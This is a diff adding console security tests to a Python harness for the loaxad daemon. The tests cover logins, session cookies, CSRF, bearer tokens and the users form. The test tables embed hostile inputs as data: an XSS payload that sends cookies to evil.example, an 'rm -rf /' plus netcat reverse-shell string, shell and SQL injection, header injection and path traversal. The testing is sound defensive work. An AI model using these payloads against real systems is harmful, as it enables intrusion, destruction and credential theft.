@@ -12,6 +12,13 @@ log (checked by harness.DaemonCase).
 Cases that cannot be a single request (stored-verbatim checks, connection
 floods, slowloris) are functions in the same tables.
 
+The console's forms (issue #7) have their own tables (CONSOLE_CASES,
+CONSOLE_SPECIAL, LIMIT_CASES) against a daemon that also listens on
+127.0.0.1: logins, session cookies and CSRF headers, bearer tokens, the
+users form, a manager's household and broadcast forms, and the console's
+static files. There, no answer of 400 and above may carry a secret or a
+session, and loaxad's log must hold no error at the end.
+
 Needs LOAXAD (else exits 77); LOAXA and LOAXA_SRCDIR are optional here.
 Python 3 stdlib only.
 """
@@ -1066,6 +1073,1045 @@ CONF_CASES = [
 
 
 # ---------------------------------------------------------------------------
+# Console cases (issue #7): the console's forms (login, users, households,
+# broadcasts), its session cookie and CSRF header, bearer tokens, and its
+# static files, against a daemon that also listens on 127.0.0.1 (where the
+# console and /v1/login live; [api] max_body = CONSOLE_MAX_BODY, [console]
+# login_attempts high so that failed logins of one case do not hold back
+# another; the limiter has its own daemon and table below).
+#
+# Users are made over the unix socket by the system admin: an (admin), lan
+# (official), minh (manager of 2A), hoa (manager of 2B), tuan and vy
+# (officials whose tokens and sessions get revoked); an, lan and minh are
+# logged in (sessions "admin", "official", "manager"), minh has a personal
+# token, and there is a household in 2A ("a2") and one in 2B ("b2").
+#
+# CReq(name, who, method, path, body=None, expect=..., fields=(),
+#      headers=None, csrf=CSRF_OK, check=None)
+#   who:     "anon" (TCP, no credentials), "unix" (the unix socket as the
+#            system admin), or a session: "admin", "official", "manager"
+#            (TCP, cookie loaxa_session, X-CSRF-Token on writes).
+#   path, headers, csrf: a value, or a callable taking the Console
+#            context (for ids, cookies and tokens known at run time);
+#            a header whose value is None is left out.
+#   csrf:    CSRF_OK (the session's own token on writes), None (no header)
+#            or the header's value.
+#   fields:  as in Req; also checked for 422 "invalid" (users, login).
+#   check:   check(testcase, console, response) for what the table cannot
+#            say.
+# Every answer of 400 and above must carry no secret (password, session,
+# CSRF or bearer token) and no Set-Cookie other than one that clears.
+
+CONSOLE_MAX_BODY = "512K"
+CONSOLE_ATTEMPTS = 1000       # [console] login_attempts of the forms daemon
+LIMIT_ATTEMPTS = 3            # ... of the limiter's daemon
+PW = "correct horse battery"
+CSRF_OK = object()
+U_ = "/v1/users"
+LOGIN = "/v1/login"
+ME = "/v1/me"
+
+
+class CReq(Req):
+    def __init__(self, name, who, method, path, body=None,
+                 expect=(400, "bad_json"), fields=(), headers=None,
+                 csrf=CSRF_OK, check=None):
+        super().__init__(name, method, path, body, expect, fields, headers)
+        self.who, self.csrf, self.check = who, csrf, check
+
+
+def UV(*fields):
+    """422 invalid (users, tokens, login, log) with these fields."""
+    return dict(expect=(422, "invalid"), fields=list(fields))
+
+
+def login(user=None, password=None, **kw):
+    b = {}
+    if user is not None:
+        b["user"] = user
+    if password is not None:
+        b["password"] = password
+    b.update(kw)
+    return b
+
+
+def newuser(**kw):
+    b = {"name": "nguoi-moi", "role": "official", "password": PW}
+    b.update(kw)
+    return b
+
+
+def ck(raw):
+    """A Cookie header (a function of the context) holding raw."""
+    return lambda cx: {"Cookie": raw(cx) if callable(raw) else raw}
+
+
+def no_passwd(t, cx, r):
+    """No file outside the console came back."""
+    for mark in (b"root:x:0:0", b"root:*:", b"[core]", b"project(",
+                 b"LOAXA", b"PATH="):
+        t.assertNotIn(mark, r.raw, r)
+
+
+def no_echo(secret):
+    """The answer does not quote this part of a password."""
+    def check(t, cx, r):
+        t.assertNotIn(secret.encode(), r.raw, r)
+    return check
+
+
+def is_me(name):
+    def check(t, cx, r):
+        t.assertEqual(r.body["user"]["name"], name, r)
+    return check
+
+
+def is_system_admin(t, cx, r):
+    t.assertEqual((r.body["user"]["id"], r.body["user"]["role"]),
+                  (0, "admin"), r)
+    t.assertIsNone(r.body["csrf"], r)
+
+
+def clears_cookie(t, cx, r):
+    sc = r.headers.get("set-cookie", "")
+    t.assertIn("loaxa_session=;", sc, r)
+    t.assertIn("Max-Age=0", sc, r)
+
+
+def no_header_injected(t, cx, r):
+    t.assertNotIn("x-injected", r.headers, r)
+    t.assertNotIn("set-cookie", r.headers, r)
+
+
+def asset(name, ctype):
+    """The console's file name came back, not an echo of the query."""
+    def check(t, cx, r):
+        t.assertTrue(r.headers.get("content-type", "").startswith(ctype), r)
+        t.assertIn("default-src 'self'",
+                   r.headers.get("content-security-policy", ""), r)
+        t.assertEqual(r.headers.get("x-content-type-options"), "nosniff")
+        t.assertNotIn(b"<script>alert", r.raw)
+        t.assertEqual(r.raw, cx.d.get("/" + name, tcp=True).raw)
+    return check
+
+
+def hh_path(key, suffix=""):
+    return lambda cx: H + "/%d%s" % (cx.ids[key], suffix)
+
+
+XSS = "<script>alert(document.cookie)</script>"
+XSS2 = "<img src=x onerror=\"fetch('//evil.example/?'+document.cookie)\">"
+XSS3 = "</textarea><svg/onload=alert(1)>{{7*7}}${7*7}"
+SQL_LOGIN = "' OR 1=1 --"
+LONG = 100 * KiB
+M = "manager"
+
+CONSOLE_CASES = [
+    # ---- POST /v1/login: types, fields ----
+    CReq("login: user is a number", "anon", "POST", LOGIN,
+         login(42, PW), **UV(("user", "wrong_type"))),
+    CReq("login: user is an array", "anon", "POST", LOGIN,
+         login(["lan"], PW), **UV(("user", "wrong_type"))),
+    CReq("login: user is an object", "anon", "POST", LOGIN,
+         login({"name": "lan"}, PW), **UV(("user", "wrong_type"))),
+    CReq("login: user is true", "anon", "POST", LOGIN,
+         login(True, PW), **UV(("user", "wrong_type"))),
+    CReq("login: password is null", "anon", "POST", LOGIN,
+         {"user": "lan", "password": None},
+         **UV(("password", "required"))),
+    CReq("login: password is a number", "anon", "POST", LOGIN,
+         login("lan", 1234567890), **UV(("password", "wrong_type"))),
+    CReq("login: password is an array", "anon", "POST", LOGIN,
+         login("lan", [PW]), **UV(("password", "wrong_type"))),
+    CReq("login: no user", "anon", "POST", LOGIN, login(password=PW),
+         **UV(("user", "required"))),
+    CReq("login: no password", "anon", "POST", LOGIN, login("lan"),
+         **UV(("password", "required"))),
+    CReq("login: empty object", "anon", "POST", LOGIN, {},
+         **UV(("user", "required"))),
+    CReq("login: no body", "anon", "POST", LOGIN, b""),
+    CReq("login: an array body", "anon", "POST", LOGIN, b'["lan", "x"]'),
+    CReq("login: null body", "anon", "POST", LOGIN, b"null"),
+    CReq("login: 10000 nested arrays as the user", "anon", "POST", LOGIN,
+         lambda: b'{"user": ' + nested(10000) + b', "password": "x"}',
+         [(400, "bad_json"), (422, "invalid")]),
+    # ---- login: sizes ----
+    CReq("login: 1 MB body above max_body", "anon", "POST", LOGIN,
+         lambda: login("a" * MiB, PW), (413, "too_large")),
+    CReq("login: 100 KB name", "anon", "POST", LOGIN,
+         lambda: login("a" * LONG, PW), (401, "bad_login")),
+    CReq("login: 100 KB password of a real user", "anon", "POST", LOGIN,
+         lambda: login("lan", "p" * LONG), (401, "bad_login")),
+    CReq("login: 65-character name", "anon", "POST", LOGIN,
+         login("l" * 65, PW), (401, "bad_login")),
+    CReq("login: empty name", "anon", "POST", LOGIN, login("", PW),
+         (401, "bad_login")),
+    CReq("login: empty password", "anon", "POST", LOGIN, login("lan", ""),
+         (401, "bad_login")),
+    # ---- login: encodings ----
+    CReq("login: invalid UTF-8 in the name", "anon", "POST", LOGIN,
+         b'{"user": "l\xe2n", "password": "x"}', (400, "bad_request")),
+    CReq("login: invalid UTF-8 in the password", "anon", "POST", LOGIN,
+         b'{"user": "lan", "password": "\xff\xfe\xfd"}',
+         (400, "bad_request")),
+    CReq("login: overlong '/' in the name", "anon", "POST", LOGIN,
+         b'{"user": "..\xc0\xafan", "password": "x"}', (400, "bad_request")),
+    CReq("login: NUL cuts a real name (\\u0000)", "anon", "POST", LOGIN,
+         login("lan\u0000junk", PW), **UV(("user", "invalid"))),
+    CReq("login: NUL after the right password", "anon", "POST", LOGIN,
+         login("lan", PW + "\u0000junk"), **UV(("password", "invalid"))),
+    CReq("login: %00 in the name is text", "anon", "POST", LOGIN,
+         login("lan%00", PW), (401, "bad_login")),
+    CReq("login: Vietnamese name", "anon", "POST", LOGIN,
+         login("Lân", PW), (401, "bad_login")),
+    CReq("login: CR LF and a header in the name", "anon", "POST", LOGIN,
+         login("lan\r\nX-Injected: 1\r\nSet-Cookie: loaxa_session=x", PW),
+         (401, "bad_login"), check=no_header_injected),
+    # ---- login: SQL and shell ----
+    CReq("login: SQL in the name", "anon", "POST", LOGIN,
+         login(SQL_LOGIN, "x"), (401, "bad_login")),
+    CReq("login: SQL comment after a real name", "anon", "POST", LOGIN,
+         login("lan' --", "anything"), (401, "bad_login")),
+    CReq("login: SQL with double quotes", "anon", "POST", LOGIN,
+         login('lan" OR ""="', "x"), (401, "bad_login")),
+    CReq("login: SQL as the password of a real user", "anon", "POST", LOGIN,
+         login("lan", "' OR '1'='1"), (401, "bad_login")),
+    CReq("login: UNION in the name", "anon", "POST", LOGIN,
+         login("x' UNION SELECT pw_hash FROM users --", "x"),
+         (401, "bad_login")),
+    CReq("login: shell in the name", "anon", "POST", LOGIN,
+         login("$(reboot)", "`id`"), (401, "bad_login")),
+    CReq("login: shell pipes in the name", "anon", "POST", LOGIN,
+         login("; rm -rf / # | nc -e /bin/sh 1.2.3.4 9", "x"),
+         (401, "bad_login")),
+    # ---- login: syntax and content types ----
+    CReq("login: duplicate user keys", "anon", "POST", LOGIN,
+         b'{"user": "nobody", "user": "lan", "password": "%s"}'
+         % PW.encode()),
+    CReq("login: duplicate password keys", "anon", "POST", LOGIN,
+         b'{"user": "lan", "password": "x", "password": "%s"}'
+         % PW.encode()),
+    CReq("login: truncated JSON", "anon", "POST", LOGIN,
+         b'{"user": "lan", "passw'),
+    # The bad_json message once quoted jansson's text "near" the error:
+    # here the start of the password, shown on the console's screen.
+    CReq("login: truncated in the password", "anon", "POST", LOGIN,
+         b'{"user": "lan", "password": "correct hor',
+         check=no_echo("correct hor")),
+    CReq("login: a tab in the password", "anon", "POST", LOGIN,
+         b'{"user": "lan", "password": "correct\thorse battery"}',
+         check=no_echo("correct")),
+    CReq("login: single quotes", "anon", "POST", LOGIN,
+         b"{'user': 'lan', 'password': 'x'}"),
+    CReq("login: a form-encoded body", "anon", "POST", LOGIN,
+         b"user=lan&password=correct+horse+battery", (400, "bad_json"),
+         headers={"Content-Type": "application/x-www-form-urlencoded"}),
+    CReq("login: a multipart body", "anon", "POST", LOGIN,
+         b"--b\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nlan"
+         b"\r\n--b--\r\n", (400, "bad_json"),
+         headers={"Content-Type": "multipart/form-data; boundary=b"}),
+    # The content type is not checked: the body decides (docs/api.md
+    # documents no 415).
+    CReq("login: JSON sent as text/plain", "anon", "POST", LOGIN,
+         lambda: jbytes(login("lan", "wrong password")), (401, "bad_login"),
+         headers={"Content-Type": "text/plain"}),
+    CReq("login: Latin-1 declared, Latin-1 sent", "anon", "POST", LOGIN,
+         '{"user": "lân", "password": "x"}'.encode("latin-1"),
+         (400, "bad_request"),
+         headers={"Content-Type": "application/json; charset=latin-1"}),
+    CReq("login: GET", "anon", "GET", LOGIN,
+         expect=(405, "method_not_allowed")),
+    CReq("login: DELETE", "anon", "DELETE", LOGIN,
+         expect=(405, "method_not_allowed")),
+    CReq("login: on the unix socket", "unix", "POST", LOGIN,
+         login("lan", PW), (404, "not_found")),
+    CReq("login: a garbage session cookie does not matter", "anon", "POST",
+         LOGIN, login("lan", "wrong password"), (401, "bad_login"),
+         headers={"Cookie": "loaxa_session=garbage"}),
+    # ---- the session cookie ----
+    CReq("cookie: garbage", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Cookie": "loaxa_session=garbage"}, check=clears_cookie),
+    CReq("cookie: empty value", "anon", "GET", ME,
+         expect=(401, "unauthorized"), headers={"Cookie": "loaxa_session="}),
+    CReq("cookie: SQL", "anon", "GET", ME, expect=(401, "unauthorized"),
+         headers={"Cookie": "loaxa_session=' OR 1=1 --"}),
+    # libmicrohttpd parses cookies into the connection's memory pool
+    # after the headers: with a 16 KiB pool a cookie of 8 KB was cut with
+    # no answer. The pool is larger now and loaxad checks the 16 KiB.
+    CReq("cookie: 8 KB", "anon", "GET", ME, expect=(401, "unauthorized"),
+         headers={"Cookie": "loaxa_session=lxs_" + "A" * (8 * KiB)}),
+    CReq("cookie: 20 KB (above the header limit)", "anon", "GET", ME,
+         expect=(431, None),
+         headers={"Cookie": "loaxa_session=lxs_" + "A" * (20 * KiB)}),
+    CReq("cookie: a valid one but the last character", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M][:-1])),
+    CReq("cookie: a valid one in upper case", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M].upper())),
+    # libmicrohttpd looks cookie names up ignoring case: the same session
+    # either way, nothing gained.
+    CReq("cookie: the name in upper case", "anon", "GET", ME,
+         expect=[(401, "unauthorized"), (200, None)],
+         headers=ck(lambda cx: "LOAXA_SESSION=" + cx.cookie[M])),
+    CReq("cookie: the static token as a session", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Cookie": "loaxa_session=" + harness.Daemon.TOKEN}),
+    CReq("cookie: a personal token as a session", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers=ck(lambda cx: "loaxa_session=" + cx.token[M])),
+    CReq("cookie: the CSRF token as a session", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers=ck(lambda cx: "loaxa_session=" + cx.csrf[M])),
+    # Once 431 from 200 cookies (2 KB) on; see "cookie: 8 KB".
+    CReq("cookie: 300 other cookies, then a valid one", "anon", "GET", ME,
+         expect=(200, None), check=is_me("minh"),
+         headers=ck(lambda cx: "; ".join(["c%d=v%d" % (i, i)
+                                          for i in range(300)]) +
+                    "; loaxa_session=" + cx.cookie[M])),
+    CReq("cookie: duplicated, garbage first", "anon", "GET", ME,
+         expect=[(200, None), (401, "unauthorized")],
+         headers=ck(lambda cx: "loaxa_session=garbage; loaxa_session=" +
+                    cx.cookie[M])),
+    CReq("cookie: duplicated, valid first", "anon", "GET", ME,
+         expect=[(200, None), (401, "unauthorized")],
+         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M] +
+                    "; loaxa_session=garbage")),
+    CReq("cookie: two valid sessions of two users", "anon", "GET", ME,
+         expect=[(200, None), (401, "unauthorized")],
+         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M] +
+                    "; loaxa_session=" + cx.cookie["admin"]),
+         check=lambda t, cx, r: r.status != 200 or t.assertIn(
+             r.body["user"]["name"], ("minh", "an"))),
+    CReq("cookie: quoted value", "anon", "GET", ME,
+         expect=[(200, None), (401, "unauthorized")],
+         headers=ck(lambda cx: 'loaxa_session="%s"' % cx.cookie[M])),
+    CReq("cookie: raw bytes", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Cookie": b"loaxa_session=\xff\xfe\x80lxs_"}),
+    # ---- CSRF ----
+    CReq("csrf: POST without the header", "official", "POST", H,
+         lambda: hh(), (403, "csrf"), csrf=None),
+    CReq("csrf: POST with an empty header", "official", "POST", H,
+         lambda: hh(), (403, "csrf"), csrf=""),
+    CReq("csrf: POST with a wrong header", "official", "POST", H,
+         lambda: hh(), (403, "csrf"), csrf="lxc_nope"),
+    CReq("csrf: POST with another session's token", "official", "POST", H,
+         lambda: hh(), (403, "csrf"), csrf=lambda cx: cx.csrf[M]),
+    CReq("csrf: POST with the session id as the token", "official", "POST",
+         H, lambda: hh(), (403, "csrf"),
+         csrf=lambda cx: cx.cookie["official"]),
+    CReq("csrf: POST with the token in upper case", "official", "POST", H,
+         lambda: hh(), (403, "csrf"),
+         csrf=lambda cx: cx.csrf["official"].upper()),
+    CReq("csrf: POST with the token and one more character", "official",
+         "POST", H, lambda: hh(), (403, "csrf"),
+         csrf=lambda cx: cx.csrf["official"] + "x"),
+    CReq("csrf: POST with a 10 KB token", "official", "POST", H,
+         lambda: hh(), (403, "csrf"), csrf="lxc_" + "x" * (10 * KiB)),
+    CReq("csrf: the token in the query instead", "official", "POST",
+         lambda cx: H + "?csrf=" + quote(cx.csrf["official"]),
+         lambda: hh(), (403, "csrf"), csrf=None),
+    CReq("csrf: the token as a cookie instead", "official", "POST", H,
+         lambda: hh(), (403, "csrf"), csrf=None,
+         headers=ck(lambda cx: "loaxa_session=%s; X-CSRF-Token=%s" % (
+             cx.cookie["official"], cx.csrf["official"]))),
+    CReq("csrf: the token in the body instead", "official", "POST", H,
+         lambda: hh(csrf="lxc_from_the_body"), (403, "csrf"), csrf=None),
+    CReq("csrf: PATCH a user without the header", "admin", "PATCH",
+         U_ + "/minh", {"display_name": "csrf"}, (403, "csrf"), csrf=None),
+    CReq("csrf: PATCH with a wrong header", "admin", "PATCH", U_ + "/minh",
+         {"display_name": "csrf"}, (403, "csrf"), csrf="0"),
+    CReq("csrf: DELETE a group without the header", "admin", "DELETE",
+         "/v1/groups/nam-ha", expect=(403, "csrf"), csrf=None),
+    CReq("csrf: DELETE a token with an empty header", "admin", "DELETE",
+         U_ + "/an/tokens/1", expect=(403, "csrf"), csrf=""),
+    CReq("csrf: PUT /v1/log without the header", "admin", "PUT", "/v1/log",
+         {"level": "debug"}, (403, "csrf"), csrf=None),
+    CReq("csrf: a broadcast without the header", "manager", "POST", B,
+         meeting(groups=["2A"]), (403, "csrf"), csrf=None),
+    CReq("csrf: an import without the header", "manager", "POST",
+         "/v1/import?group=2A", b"ho_ten,sdt\nAn,0977500001\n",
+         (403, "csrf"), csrf=None, headers=CSV_CT),
+    CReq("csrf: TRACE with a session needs the header too", "admin",
+         "TRACE", "/v1/status", expect=(403, "csrf"), csrf=None),
+    CReq("csrf: GET needs no header", "manager", "GET", ME,
+         expect=(200, None), check=is_me("minh")),
+    # ---- the unix socket ignores cookies ----
+    CReq("unix: a manager's cookie is ignored", "unix", "GET", ME,
+         expect=(200, None), check=is_system_admin,
+         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M])),
+    CReq("unix: a garbage cookie is ignored", "unix", "GET", ME,
+         expect=(200, None), check=is_system_admin,
+         headers={"Cookie": "loaxa_session=garbage"}),
+    CReq("unix: a write with a cookie and no CSRF header", "unix", "POST",
+         P, meeting(groups=["2B"]), (200, None),
+         headers=ck(lambda cx: "loaxa_session=" + cx.cookie[M])),
+    CReq("unix: a garbage bearer token", "unix", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Authorization": "Bearer garbage"}),
+    CReq("unix: a Basic authorization is ignored", "unix", "GET", ME,
+         expect=(200, None), check=is_system_admin,
+         headers={"Authorization": "Basic YWRtaW46YWRtaW4="}),
+    # ---- bearer tokens ----
+    CReq("bearer: the word alone", "anon", "GET", ME,
+         expect=(401, "unauthorized"), headers={"Authorization": "Bearer"}),
+    CReq("bearer: 'Bearer ' and nothing", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Authorization": "Bearer "}),
+    CReq("bearer: empty header", "anon", "GET", ME,
+         expect=(401, "unauthorized"), headers={"Authorization": ""}),
+    CReq("bearer: garbage", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Authorization": "Bearer garbage"}),
+    CReq("bearer: the prefix only", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Authorization": "Bearer lxa_"}),
+    CReq("bearer: the static token and one more character", "anon", "GET",
+         ME, expect=(401, "unauthorized"),
+         headers={"Authorization": "Bearer " + harness.Daemon.TOKEN + "x"}),
+    CReq("bearer: the static token but the last character", "anon", "GET",
+         ME, expect=(401, "unauthorized"),
+         headers={"Authorization": "Bearer " +
+                  harness.Daemon.TOKEN[:-1]}),
+    CReq("bearer: a personal token but the last character", "anon", "GET",
+         ME, expect=(401, "unauthorized"),
+         headers=lambda cx: {"Authorization": "Bearer " + cx.token[M][:-1]}),
+    CReq("bearer: two spaces", "anon", "GET", ME,
+         expect=[(401, "unauthorized"), (200, None)],
+         headers={"Authorization": "Bearer  " + harness.Daemon.TOKEN}),
+    CReq("bearer: Basic on TCP", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Authorization": "Basic YWRtaW46YWRtaW4="}),
+    CReq("bearer: Digest on TCP", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Authorization": 'Digest username="an", nonce="x"'}),
+    CReq("bearer: 10 KB token", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Authorization": "Bearer lxa_" + "z" * (10 * KiB)}),
+    CReq("bearer: 20 KB token (above the header limit)", "anon", "GET", ME,
+         expect=(431, None),
+         headers={"Authorization": "Bearer lxa_" + "z" * (20 * KiB)}),
+    CReq("bearer: raw bytes", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers={"Authorization": b"Bearer lxa_\xff\xfe\x00\x80"}),
+    CReq("bearer: a session id as a token", "anon", "GET", ME,
+         expect=(401, "unauthorized"),
+         headers=lambda cx: {"Authorization": "Bearer " + cx.cookie[M]}),
+    CReq("bearer: SQL", "anon", "GET", ME, expect=(401, "unauthorized"),
+         headers={"Authorization": "Bearer ' OR 1=1 --"}),
+    CReq("bearer: a garbage token beside a valid admin cookie", "anon",
+         "GET", ME, expect=(401, "unauthorized"),
+         headers=lambda cx: {"Authorization": "Bearer garbage",
+                             "Cookie": "loaxa_session=" +
+                             cx.cookie["admin"]}),
+    CReq("bearer: a manager's token beside an admin cookie is the manager",
+         "anon", "GET", ME, expect=(200, None), check=is_me("minh"),
+         headers=lambda cx: {"Authorization": "Bearer " + cx.token[M],
+                             "Cookie": "loaxa_session=" +
+                             cx.cookie["admin"]}),
+    # ---- the users form (POST/PATCH /v1/users as an admin session) ----
+    CReq("user: name with a slash and dots", "admin", "POST", U_,
+         newuser(name="../x"), **UV(("name", "invalid"))),
+    CReq("user: name with a space", "admin", "POST", U_,
+         newuser(name="a b"), **UV(("name", "invalid"))),
+    CReq("user: 65-character name", "admin", "POST", U_,
+         newuser(name="n" * 65), **UV(("name", "invalid"))),
+    CReq("user: empty name", "admin", "POST", U_, newuser(name=""),
+         **UV(("name", "invalid"))),
+    CReq("user: Vietnamese name", "admin", "POST", U_,
+         newuser(name="Lân"), **UV(("name", "invalid"))),
+    CReq("user: name starting with '-'", "admin", "POST", U_,
+         newuser(name="-rf"), **UV(("name", "invalid"))),
+    CReq("user: name starting with '.'", "admin", "POST", U_,
+         newuser(name=".hidden"), **UV(("name", "invalid"))),
+    CReq("user: SQL as the name", "admin", "POST", U_,
+         newuser(name=SQL), **UV(("name", "invalid"))),
+    CReq("user: shell as the name", "admin", "POST", U_,
+         newuser(name="$(reboot)"), **UV(("name", "invalid"))),
+    CReq("user: NUL in the name", "admin", "POST", U_,
+         newuser(name="lan\u0000x"), **UV(("name", "invalid"))),
+    CReq("user: name is a number", "admin", "POST", U_, newuser(name=7),
+         **UV(("name", "wrong_type"))),
+    CReq("user: name is null", "admin", "POST", U_, newuser(name=None),
+         **UV(("name", "required"))),
+    CReq("user: an existing name in another case", "admin", "POST", U_,
+         newuser(name="LAN"), (409, "exists")),
+    CReq("user: unknown role", "admin", "POST", U_, newuser(role="god"),
+         **UV(("role", "invalid"))),
+    CReq("user: empty role", "admin", "POST", U_, newuser(role=""),
+         **UV(("role", "invalid"))),
+    CReq("user: role is a number", "admin", "POST", U_, newuser(role=1),
+         **UV(("role", "wrong_type"))),
+    CReq("user: no role", "admin", "POST", U_,
+         lambda: without(newuser(), "role"), **UV(("role", "required"))),
+    CReq("user: a manager without groups", "admin", "POST", U_,
+         newuser(role="manager"), **UV(("groups", "required"))),
+    CReq("user: a manager with no group in the list", "admin", "POST", U_,
+         newuser(role="manager", groups=[]), **UV(("groups", "required"))),
+    CReq("user: groups is a string", "admin", "POST", U_,
+         newuser(role="manager", groups="2A"),
+         **UV(("groups", "wrong_type"))),
+    CReq("user: unknown group code", "admin", "POST", U_,
+         newuser(role="manager", groups=["9Z"]),
+         **UV(("groups[0]", "unknown_group"))),
+    CReq("user: traversal as a group", "admin", "POST", U_,
+         newuser(role="manager", groups=["2A", "../../etc/passwd"]),
+         **UV(("groups[1]", "unknown_group"))),
+    CReq("user: SQL as a group", "admin", "POST", U_,
+         newuser(role="manager", groups=[SQL]),
+         **UV(("groups[0]", "unknown_group"))),
+    CReq("user: a group is a number", "admin", "POST", U_,
+         newuser(role="manager", groups=[2]),
+         **UV(("groups[0]", "wrong_type"))),
+    CReq("user: NUL in a group", "admin", "POST", U_,
+         newuser(role="manager", groups=["2A\u0000x"]),
+         **UV(("groups[0]", None))),
+    CReq("user: 1000 groups", "admin", "POST", U_,
+         lambda: newuser(role="manager",
+                         groups=["2A", "2B"] * 500), [(201, None),
+                                                     (422, "invalid")],
+         check=lambda t, cx, r: r.status != 201 or t.assertEqual(
+             sorted(r.body["groups"]), ["2A", "2B"])),
+    CReq("user: 1000 unknown groups", "admin", "POST", U_,
+         lambda: newuser(role="manager",
+                         groups=["g%d" % i for i in range(1000)]),
+         **UV(("groups[0]", "unknown_group"))),
+    CReq("user: weak password (short)", "admin", "POST", U_,
+         newuser(password="short"), **UV(("password", "weak"))),
+    CReq("user: weak password (one character repeated)", "admin", "POST",
+         U_, newuser(password="a" * 16), **UV(("password", "weak"))),
+    CReq("user: weak password (one Vietnamese letter repeated)", "admin",
+         "POST", U_, newuser(password="ớ" * 12),
+         **UV(("password", "weak"))),
+    CReq("user: 2 KB password", "admin", "POST", U_,
+         newuser(password="x1" * KiB), **UV(("password", "weak"))),
+    CReq("user: password is a number", "admin", "POST", U_,
+         newuser(password=12345678901), **UV(("password", "wrong_type"))),
+    CReq("user: NUL in the password", "admin", "POST", U_,
+         newuser(password="correct\u0000horse"),
+         **UV(("password", "invalid"))),
+    # As "login: truncated in the password".
+    CReq("user: truncated in the password", "admin", "POST", U_,
+         b'{"name": "x1", "role": "official", "password": "mat khau bi',
+         check=no_echo("mat khau")),
+    CReq("user: invalid UTF-8 in the password", "admin", "POST", U_,
+         b'{"name": "x1", "role": "official", "password": "m\xe1t kh\xe1u '
+         b'1234"}', (400, "bad_request")),
+    CReq("user: unix_uid negative", "admin", "POST", U_,
+         newuser(unix_uid=-1), **UV(("unix_uid", "invalid"))),
+    CReq("user: unix_uid a string", "admin", "POST", U_,
+         newuser(unix_uid="1000"), **UV(("unix_uid", "invalid"))),
+    CReq("user: unix_uid 2^32-1 (the -1 uid)", "admin", "POST", U_,
+         newuser(unix_uid=2 ** 32 - 1), **UV(("unix_uid", "invalid"))),
+    CReq("user: unix_uid 2^63-1", "admin", "POST", U_,
+         newuser(unix_uid=I64 - 1), **UV(("unix_uid", "invalid"))),
+    CReq("user: unix_uid 2^64", "admin", "POST", U_,
+         newuser(unix_uid=2 ** 64), [(400, "bad_json"), (422, "invalid")]),
+    CReq("user: unix_uid a real", "admin", "POST", U_,
+         newuser(unix_uid=1000.5), **UV(("unix_uid", "invalid"))),
+    CReq("user: unix_uid true", "admin", "POST", U_,
+         newuser(unix_uid=True), **UV(("unix_uid", "invalid"))),
+    CReq("user: invalid UTF-8 in display_name", "admin", "POST", U_,
+         b'{"name": "x2", "role": "official", "display_name": "Nguy\xe1n"}',
+         (400, "bad_request")),
+    CReq("user: 100 KB display_name", "admin", "POST", U_,
+         lambda: newuser(display_name="Đ" * LONG),
+         **UV(("display_name", "too_long"))),
+    CReq("user: terminal escapes in display_name", "admin", "POST", U_,
+         newuser(display_name="\u001b[2J\u001b]0;pwned\u0007Lan"),
+         **UV(("display_name", "control_chars"))),
+    CReq("user: display_name is a number", "admin", "POST", U_,
+         newuser(display_name=5), **UV(("display_name", "wrong_type"))),
+    CReq("user: unknown field is_admin", "admin", "POST", U_,
+         newuser(is_admin=True), **UV(("is_admin", "unknown_field"))),
+    CReq("user: every field wrong", "admin", "POST", U_,
+         {"name": 1, "role": [], "display_name": {}, "groups": 3,
+          "password": False, "unix_uid": "x"},
+         **UV(("name", "wrong_type"), ("role", "wrong_type"),
+              ("display_name", "wrong_type"), ("groups", "wrong_type"),
+              ("unix_uid", "invalid"))),
+    CReq("user: PATCH an unknown role", "admin", "PATCH", U_ + "/lan",
+         {"role": "god"}, **UV(("role", "invalid"))),
+    CReq("user: PATCH disabled a string", "admin", "PATCH", U_ + "/lan",
+         {"disabled": "yes"}, **UV(("disabled", "wrong_type"))),
+    CReq("user: PATCH unix_uid negative", "admin", "PATCH", U_ + "/lan",
+         {"unix_uid": -5}, **UV(("unix_uid", "invalid"))),
+    CReq("user: PATCH a manager's groups to none", "admin", "PATCH",
+         U_ + "/minh", {"groups": []}, **UV(("groups", "required"))),
+    CReq("user: PATCH an unknown group", "admin", "PATCH", U_ + "/minh",
+         {"groups": ["9Z"]}, **UV(("groups[0]", "unknown_group"))),
+    CReq("user: PATCH a weak password", "admin", "PATCH", U_ + "/lan",
+         {"password": "123"}, **UV(("password", "weak"))),
+    CReq("user: PATCH unknown field", "admin", "PATCH", U_ + "/lan",
+         {"pw_hash": "$argon2id$x"}, **UV(("pw_hash", "unknown_field"))),
+    CReq("user: PATCH nobody", "admin", "PATCH", U_ + "/nobody",
+         {"display_name": "x"}, (404, "not_found")),
+    CReq("user: traversal in the path", "admin", "PATCH",
+         U_ + "/" + quote("../an"), {"role": "manager"},
+         [(404, "not_found"), (400, "bad_request")]),
+    CReq("user: SQL in the path", "admin", "GET", U_ + "/" + quote(SQL),
+         expect=(404, "not_found")),
+    CReq("user: NUL in the path", "admin", "GET", U_ + "/an%00x",
+         expect=[(404, "not_found"), (400, "bad_request")]),
+    CReq("user: a 1 KB token label", "admin", "POST", U_ + "/an/tokens",
+         {"label": "l" * KiB}, **UV(("label", "too_long"))),
